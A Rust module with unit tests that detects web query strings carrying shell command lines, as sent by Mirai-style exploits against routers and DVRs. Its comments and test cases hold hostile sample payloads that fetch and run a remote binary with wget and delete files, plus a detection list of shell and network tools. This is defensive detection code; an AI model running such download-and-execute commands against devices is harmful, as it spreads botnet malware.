//! A query string that is a shell command line, not parameters.
//!
//! Router and camera exploits (Mirai and its descendants, the `/shell?` backdoor of cheap DVRs)
//! send the command itself as the query: `/shell?cd+/tmp;rm+-rf+*;wget+http://...`, or a
//! reconnaissance first, `/shell?uname -a`, often percent-encoded letter by letter. A query of
//! parameters (`key=value&...`) never starts with a command name followed by a shell argument.

/// Commands such payloads start with: reconnaissance, moving to a writable directory, fetching
/// and running a binary.
const COMMANDS: &[&str] = &[
    "uname", "id", "whoami", "cd", "rm", "cat", "echo", "wget", "curl", "tftp", "busybox", "sh",
    "bash", "chmod", "nc", "ls", "ps", "ifconfig", "ping", "killall",
];

/// Whether the (percent-decoded, `+` read as a space) query starts with a command of
/// [`COMMANDS`] and continues like a shell: an option (`-a`), an absolute path (`/tmp`), a URL,
/// another command (`busybox wget`), or a separator chaining the next command (`;`, `|`, `&&`,
/// `` ` ``). `cat=books`, `q=uname -a` and `echo hello` are not command lines.
pub(super) fn is_command_line(query: &str) -> bool {
    let (word, rest) = first_word(query);
    if !is_command(word) {
        return false;
    }
    let separator = rest.starts_with([';', '|', '`']) || rest.starts_with("&&");
    let argument = rest.trim_start();
    let shell_argument = rest.starts_with(|c: char| c.is_ascii_whitespace())
        && (argument.starts_with(['-', '/'])
            || argument
                .get(..4)
                .is_some_and(|s| s.eq_ignore_ascii_case("http"))
            || argument.contains([';', '|', '`'])
            || is_command(first_word(argument).0));
    separator || shell_argument
}

/// The first word of `s` (up to a space or a shell separator) and the rest.
fn first_word(s: &str) -> (&str, &str) {
    let s = s.trim_start();
    let end = s
        .find(|c: char| c.is_ascii_whitespace() || matches!(c, ';' | '|' | '&' | '`'))
        .unwrap_or(s.len());
    s.split_at(end)
}

fn is_command(word: &str) -> bool {
    COMMANDS.iter().any(|c| c.eq_ignore_ascii_case(word))
}

#[cfg(test)]
mod tests {
    use super::is_command_line;

    /// Command lines as router exploits send them, after decoding.
    #[test]
    fn commands_with_shell_arguments_or_separators_are_command_lines() {
        for q in [
            "uname -a",
            "cd /tmp;rm -rf *;wget http://198.51.100.1/m;sh m",
            "wget http://198.51.100.1/x.sh -O- | sh",
            "cat /proc/cpuinfo",
            "echo;busybox ECCHI",
            "BUSYBOX wget http://x",
            "echo 2014 | md5sum",
        ] {
            assert!(is_command_line(q), "{q}");
        }
    }

    /// Parameters, searches and words that merely name a command.
    #[test]
    fn parameters_and_words_are_not_command_lines() {
        for q in [
            "",
            "cat=books&page=2",
            "q=uname -a",
            "echo hello",
            "id",
            "identity=7",
            "sh",
            "cdn=1",
            "ls",
            "page=2&cat /etc",
            "curl tutorial",
        ] {
            assert!(!is_command_line(q), "{q}");
        }
    }
}
